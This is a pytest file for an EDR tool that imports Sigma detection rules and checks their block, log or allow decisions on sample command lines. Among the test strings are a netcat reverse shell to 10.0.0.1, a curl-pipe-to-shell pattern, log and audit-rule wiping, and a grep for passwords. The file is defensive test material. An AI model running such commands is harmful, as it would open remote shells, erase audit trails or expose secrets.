"""Sigma import (edrfleet/policy/sigma): each rule's semantics checked on example execs.

Imported policies are compiled and decided by the simulator, cross-checked with the reference
oracle; executables match by name only (a stat that always fails), nothing is executed.
"""

from __future__ import annotations

import re
import textwrap
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml

from edrfleet.cli.main import main
from edrfleet.policy import compile_policy, load_policy_text, reference_decide, simulate
from edrfleet.policy.limits import EDR_GROUPS_PER_KEY
from edrfleet.policy.sigma import import_paths, import_texts
from tests.corpora import SIGMA

REPO = Path(__file__).resolve().parents[4]
needs_corpus = pytest.mark.skipif(not SIGMA.is_dir(), reason=f"Sigma corpus not at {SIGMA}")

# The import rate on the corpus; the test fails if fewer rules import (raise it when it grows).
CORPUS_RULES = 197
CORPUS_IMPORTED = 158  # of which CORPUS_PARTLY without some alternatives of their condition
CORPUS_PARTLY = 11


def _no_stat(path: bytes) -> Any:
    raise FileNotFoundError(path)


class Imported:
    def __init__(self, text: str, action: str = "log") -> None:
        self.result = import_texts([("rule.yml", text)], action)
        self.policy = load_policy_text(self.result.policy_text(), "imported.yaml")
        self.bundle = compile_policy(self.policy)

    def action(self, cmdline: str | list[str], **context: Any) -> str:
        argv = cmdline.split() if isinstance(cmdline, str) else cmdline
        got = simulate(self.bundle, argv, stat=_no_stat, **context)
        want = reference_decide(self.policy, argv, stat=_no_stat, **context)
        assert got == want, f"simulator and reference disagree on {argv}: {got} != {want}"
        return got.action


def sigma(detection: str, logsource: str = "{product: linux, category: process_creation}",
          **extra: str) -> str:
    head = textwrap.dedent(f"""\
        title: Test Rule
        id: 5a0e0b4e-0000-4000-8000-00000000000{len(detection) % 10}
        author: Jane Doe
        date: 2024-01-02
        references: [https://example.org/r]
        falsepositives: [Admins]
        level: high
        tags: [attack.t1070.003, attack.defense-evasion]
        logsource: {logsource}
        """)
    return head + "detection:\n" + textwrap.indent(textwrap.dedent(detection), "  ") + "".join(
        f"{k}: {v}\n" for k, v in extra.items())


# --- one Sigma feature at a time ---------------------------------------------------------------
def test_image_endswith_and_commandline_contains_become_one_rule_with_credit() -> None:
    imp = Imported(sigma("""\
        sel:
          Image|endswith: [/rm, /shred]
          CommandLine|contains: /var/log
        condition: sel
        """), action="block")
    (rule,) = imp.result.rules()
    assert rule["match"] == {"executable": ["rm", "shred"], "cmdline": "(?is:/var/log)"}
    assert rule["action"] == "block" and rule["severity"] == "high"
    assert rule["tags"] == ["attack.t1070.003", "attack.defense-evasion"]
    src = rule["source"]
    assert (src["title"], src["author"], src["sigma_id"][:8]) == ("Test Rule", "Jane Doe",
                                                                  "5a0e0b4e")
    assert src["references"] == ["https://example.org/r"] and src["falsepositives"] == ["Admins"]
    assert "Jane Doe" in rule["description"] and "Detection Rule License" in rule["description"]
    assert imp.action("rm -rf /var/log/syslog") == "block"
    assert imp.action("rm -rf /VAR/LOG/x") == "block"  # Sigma strings are case-insensitive
    assert imp.action("rm -rf /tmp/x") == "allow"
    assert imp.action("cat /var/log/syslog") == "allow"
    assert imp.policy.rules[0].source[0] == ("sigma_id", src["sigma_id"])


@pytest.mark.parametrize(("modifier", "value", "hits", "misses"), [
    ("startswith", "curl -k", ["curl -k https://h", "CURL -K x"], ["sudo curl -k h"]),
    ("endswith", ".sh", ["curl x.sh"], ["curl x.sh.bak"]),
    ("contains|all", "[' -o ', '| sh']", ["curl -o x | sh"], ["curl -o x", "curl | sh"]),
    ("re", "'-[a-z]*k[a-z]* '", ["curl -sk h"], ["curl -sK h", "curl -s h"]),
    ("re|i", "'-[a-z]*k '", ["curl -sK h"], ["curl -s h"]),
    ("contains|windash", "-k", ["curl -k h", "curl /k h", "curl \u2013k h"], ["curl h"]),
    ("contains|cased", "Curl", ["Curl h"], ["curl h"]),
])
def test_commandline_modifiers(modifier: str, value: str, hits: list[str],
                               misses: list[str]) -> None:
    imp = Imported(sigma(f"""\
        sel:
          CommandLine|{modifier}: {value}
        condition: sel
        """))
    for line in hits:
        assert imp.action(line) == "log", line
    for line in misses:
        assert imp.action(line) == "allow", line


def test_a_full_value_matches_the_whole_command_line() -> None:
    imp = Imported(sigma("sel: {CommandLine: 'id -u'}\ncondition: sel\n"))
    assert imp.action("id -u") == "log"
    assert imp.action("id -un") == "allow" and imp.action("sudo id -u") == "allow"


def test_one_of_with_different_fields_becomes_several_rules() -> None:
    imp = Imported(sigma("""\
        sel_img: {Image|endswith: /nmap}
        sel_cli: {CommandLine|contains: ' --script '}
        condition: 1 of sel_*
        """))
    assert [r["id"][-2:] for r in imp.result.rules()] == ["-1", "-2"]
    assert imp.action("nmap 10.0.0.1") == "log"
    assert imp.action("python3 x.py --script y") == "log"
    assert imp.action("ls -l") == "allow"


def test_all_of_and_a_filter_on_the_executable_subtract_names() -> None:
    imp = Imported(sigma("""\
        selection:
          Image|endswith: [/service, /systemctl]
          CommandLine|contains: ' stop '
        filter_main: {Image|endswith: /systemctl, CommandLine|contains: 'snapd'}
        condition: all of selection and not 1 of filter_main*
        """))
    assert imp.action("systemctl stop auditd") == "log"
    assert imp.action("service stop snapd") == "log"  # the filter needs systemctl
    assert imp.action("systemctl stop snapd") == "allow"  # filtered: Image and CommandLine


def test_selection_and_not_filter_is_a_complement_regex_not_an_allow_rule() -> None:
    """`not filter` must not become an `allow` rule: allow wins over every rule of the policy,
    so it would also silence other rules (and the default policy) on the filtered execs."""
    imp = Imported(sigma("""\
        selection: {Image|endswith: [/nc, /ncat]}
        filter_listen: {CommandLine|contains: [' -l ', ' --listen ']}
        condition: selection and not filter_listen
        """), action="block")
    assert {r["action"] for r in imp.result.rules()} == {"block"}
    for line in ("nc 10.0.0.1 4444", "nc -e /bin/sh 10.0.0.1 4444", "ncat -lk"):
        assert imp.action(line) == "block", line
    for line in ("nc -l 4444", "ncat --listen 4444", "nc -L 4444"):  # -L: case-insensitive
        assert imp.action(line) == "allow", line
    merged = load_policy_text(imp.result.policy_text() + textwrap.dedent("""\
          - {id: other, description: d, severity: high, action: block,
             match: {executable: [nc], args: [{any: ['-l']}]}}
        """), "merged.yaml")
    assert simulate(compile_policy(merged), ["nc", "-l", "4444"], stat=_no_stat).rule == "other"


def test_not_of_a_startswith_value_and_not_of_a_full_value() -> None:
    imp = Imported(sigma("""\
        sel: {Image|endswith: /rm, CommandLine|contains: /var/log}
        f1: {CommandLine|startswith: 'rm -f /var/log/sysstat/'}
        f2: {CommandLine: 'rm /var/log/x'}
        condition: sel and not f1 and not f2
        """))
    assert imp.action("rm -rf /var/log") == "log"
    assert imp.action("rm -f /var/log/sysstat/sa01") == "allow"
    assert imp.action("rm /var/log/x") == "allow"
    assert imp.action("rm /var/log/xy") == "log"


def test_parent_user_and_cwd_map_to_the_context_matchers() -> None:
    imp = Imported(sigma("""\
        sel:
          ParentImage|endswith: /sshd
          CommandLine|startswith: 'bash -c'
          User: root
          CurrentDirectory|startswith: /tmp/
        condition: sel
        """))
    match = imp.result.rules()[0]["match"]
    assert match["parent"] == {"executable": ["sshd"]}
    assert match["user"] == ["root"] and match["cwd"] == ["/tmp/"]


def test_auditd_execve_records_map_to_executable_and_arguments() -> None:
    imp = Imported(sigma("""\
        selection:
          type: EXECVE
          a0: getcap
          a1: '-r'
          a2: /
        condition: selection
        """, logsource="{product: linux, service: auditd}"))
    rule = imp.result.rules()[0]
    assert rule["match"]["executable"] == ["getcap"]
    assert imp.action("getcap -r /") == "log"
    assert imp.action("getcap -r /usr") == "allow"
    assert any("a0" in n for n in rule["source"]["notes"])


def test_auditd_keywords_search_the_command_line() -> None:
    imp = Imported(sigma("""\
        selection: {type: EXECVE}
        keywords: {'|all': [grep, password]}
        condition: selection and keywords
        """, logsource="{product: linux, service: auditd}"))
    assert imp.action("grep -r password /etc") == "log"
    assert imp.action("grep -r secret /etc") == "allow"


@pytest.mark.parametrize(("detection", "reason"), [
    ("sel: {ParentCommandLine|contains: x}\ncondition: sel\n", "parent's executable at exec"),
    ("sel: {Image|startswith: /tmp/}\ncondition: sel\n", "not by a part of its path"),
    ("sel: {Image|contains: /python}\ncondition: sel\n", "not by a part of its path"),
    ("sel: {CommandLine|re: 'x(?=y)'}\ncondition: sel\n", "invalid perl operator: (?="),
    ("sel: {CommandLine|re: 'x{1001}'}\ncondition: sel\n", "invalid repetition size"),
    ("sel: {CommandLine|contains: x}\nf: {CommandLine|re: y}\ncondition: sel and not f\n",
     "only plain values can be negated"),
    ("sel: {Image|endswith: /x}\nf: {User: root}\ncondition: sel and not f\n", "'not User'"),
    ("f: {Image|endswith: /x}\ncondition: not f\n", "without a positive Image"),
    ("sel: {type: PATH}\ncondition: sel\n", "EXECVE records"),
    ("sel: {type: SYSCALL}\ncondition: sel\n", "without SYSCALL: execve"),
])
def test_what_the_kernel_cannot_see_is_refused_with_the_reason(detection: str,
                                                               reason: str) -> None:
    result = import_texts([("r.yml", sigma(detection))])
    assert not result.imported
    (refused,) = result.refused
    assert reason in refused.reason, refused.reason
    assert refused.title == "Test Rule"


def test_alternatives_the_kernel_cannot_check_are_left_out_and_said() -> None:
    imp = Imported(sigma("""\
        sel_img: {Image|endswith: /nmap}
        sel_parent: {ParentCommandLine|contains: masscan}
        condition: 1 of sel_*
        """))
    (only,) = imp.result.imported
    assert only.dropped and "ParentCommandLine" in only.dropped[0]
    assert any("left out" in n for n in imp.result.rules()[0]["source"]["notes"])
    assert "# partly: rule.yml: Test Rule: left out: field 'ParentCommandLine'" in (
        imp.result.policy_text())
    assert imp.action("nmap -sS h") == "log"


def test_an_auditd_syscall_record_of_execve_is_an_exec_and_euid_a_uid() -> None:
    imp = Imported(sigma("""\
        selection: {type: SYSCALL, SYSCALL: [execve, execveat], euid: 33}
        condition: selection
        """, logsource="{product: linux, service: auditd}"))
    assert imp.result.rules()[0]["match"] == {"user": [33]}
    assert imp.action("id", uid=33) == "log" and imp.action("id", uid=0) == "allow"
    other = import_texts([("r.yml", sigma("sel: {type: SYSCALL, SYSCALL: mknod}\ncondition: "
                                          "sel\n", "{product: linux, service: auditd}"))])
    assert "auditd SYSCALL 'mknod'" in other.refused[0].reason


def test_other_logsources_are_refused() -> None:
    result = import_texts([("r.yml", sigma("sel: {Image|endswith: /x}\ncondition: sel\n",
                                           "{product: linux, category: network_connection}"))])
    assert "only process_creation" in result.refused[0].reason


def test_rules_on_overlapping_executable_lists_are_split_to_fit_the_kernel() -> None:
    texts = [(f"r{i}.yml", sigma(f"sel: {{Image|endswith: [/cat, /x{i}], CommandLine|contains: "
                                f"y{i}}}\ncondition: sel\n").replace("00000000000", f"{i:011d}"))
             for i in range(EDR_GROUPS_PER_KEY + 2)]
    result = import_texts(texts)
    result.rules()
    assert result.split is True
    assert all(len(r["match"]["executable"]) == 1 for r in result.rules())
    policy = load_policy_text(result.policy_text(), "p.yaml")
    bundle = compile_policy(policy)
    assert simulate(bundle, ["cat", "y7"], stat=_no_stat).action == "log"
    assert simulate(bundle, ["x3", "y3"], stat=_no_stat).action == "log"
    assert simulate(bundle, ["x3", "y4"], stat=_no_stat).action == "allow"


# --- the SigmaHQ corpus -------------------------------------------------------------------------
@cache
def corpus() -> Any:
    return import_paths([SIGMA])


@needs_corpus
def test_every_corpus_rule_imports_or_is_refused_with_a_reason(
        capsys: pytest.CaptureFixture[str]) -> None:
    result = corpus()
    assert result.total == CORPUS_RULES
    assert all(r.reason.strip() for r in result.refused)
    with capsys.disabled():
        print(f"\nSigma import: {len(result.imported)} of {result.total} "
              f"({100 * result.rate:.1f} %) as {len(result.rules())} rules")
    assert len(result.imported) >= CORPUS_IMPORTED, [r.reason for r in result.refused]
    assert len(result.imported) - len(result.partial) >= CORPUS_IMPORTED - CORPUS_PARTLY


@needs_corpus
def test_the_imported_corpus_policy_passes_policy_check(tmp_path: Path) -> None:
    out = tmp_path / "sigma.yaml"
    assert main(["policy", "import-sigma", str(SIGMA), "-o", str(out)]) == 0
    assert main(["policy", "check", str(out)]) == 0
    doc = yaml.safe_load(out.read_text())
    assert doc["limits"] == {"unscanned": "allow"}
    assert all(r["source"]["license"].startswith("Detection Rule License") for r in doc["rules"])


@needs_corpus
def test_corpus_rules_decide_their_own_examples() -> None:
    imp = Imported.__new__(Imported)
    imp.result = corpus()
    imp.policy = load_policy_text(imp.result.policy_text(), "sigma.yaml")
    imp.bundle = compile_policy(imp.policy)

    def rules_of(cmd: str, **context: Any) -> tuple[str, ...]:
        return simulate(imp.bundle, cmd.split(), stat=_no_stat, **context).rules

    def hit(cmd: str, title_part: str, **context: Any) -> bool:
        titles = {r.id: dict(r.source).get("title", "") for r in imp.policy.rules}
        return any(title_part in titles[r] for r in rules_of(cmd, **context))

    assert hit("nc 10.0.0.1 4444", "Network Service Scanning")
    assert not hit("nc -l 4444", "Network Service Scanning")  # not filter_main_netcat_listen
    assert hit("nmap -sS 10.0.0.1", "Network Service Scanning")
    assert hit("rm -rf /var/log/syslog", "Logs Clearing")
    assert not hit("rm -f /var/log/sysstat/sa01", "Logs Clearing")  # filter_main_legit_systat
    assert hit("getcap -r /", "Capabilities Discovery")
    assert hit("auditctl -D", "Audit Rules Deleted")
    assert hit("chmod 777 /tmp/x", "Chmod")
    assert not hit("chmod 700 /tmp/apt-key-gpghome.abc", "Chmod")  # filter_main_apt_key
    # filter_main_update_shells needs ParentCommandLine: assumed to hold, so the filter
    # excludes chmod --reference=/etc/shells whatever the parent
    assert not hit("chmod --reference=/etc/shells /etc/x", "Chmod")
    assert hit("bash -c id", "CVE-2024-3094", parent="/usr/sbin/sshd", uid=0)
    assert not hit("bash -c id", "CVE-2024-3094", parent="/usr/bin/cron", uid=0)


def test_the_docstring_example_runs() -> None:
    import doctest

    import edrfleet.policy.sigma.importer as importer

    result = doctest.testmod(importer)
    assert result.attempted > 0 and result.failed == 0


_LITERAL = re.compile(r"\(\?is?:(\\A)?((?:[^\\()|.*?\[\]{}^$+]|\\[^AZx])*)(\\Z)?\)")


def _example_word(regex: str) -> tuple[str, bool, bool] | None:
    """(text, at start, at end) of the first alternative of a plain-value cmdline regex."""
    m = _LITERAL.match(regex)
    if m is None:
        return None
    return re.sub(r"\\(.)", r"\1", m.group(2)), bool(m.group(1)), bool(m.group(3))


@needs_corpus
def test_imported_rules_fire_on_examples_built_from_their_own_values(
        capsys: pytest.CaptureFixture[str]) -> None:
    """For every rule whose conditions are an executable and plain CommandLine values, an
    exec made of those values (and not excluded by the rule's own filters) is matched."""
    result = corpus()
    policy = load_policy_text(result.policy_text(), "sigma.yaml")
    bundle = compile_policy(policy)
    tried = 0
    for rule in result.rules():
        match = rule["match"]
        if set(match) - {"executable", "cmdline"} or not match.get("executable"):
            continue
        regexes = match.get("cmdline", [])
        regexes = [regexes] if isinstance(regexes, str) else regexes
        words = [_example_word(r) for r in regexes if not r.startswith("\\A(?:")]
        if any(w is None for w in words):
            continue
        exe = match["executable"][0]
        head = [w for w in words if w[1]]  # anchored at the start: the line begins with it
        if len(head) > 1 or any(w[2] for w in words if w not in head):
            continue
        line = (head[0][0] if head else exe) + "".join(
            " " + w[0] for w in words if w not in head)
        argv = line.split(" ")
        complements = [r for r in regexes if r.startswith("\\A(?:")]
        if exe.startswith("/") or not argv[0] or not all(
                re.search(c.encode(), line.encode()) for c in complements):
            continue  # a path, or an example the rule's own filter excludes
        tried += 1
        decision = simulate(bundle, argv, filename=f"/usr/bin/{exe}", identity=(0, 0),
                            stat=_no_stat)
        assert rule["id"] in decision.rules, (rule["id"], argv, decision)
    with capsys.disabled():
        print(f"\n{tried} imported rules fire on an example built from their own values")
    assert tried >= 300  # 366 of the 499 when written
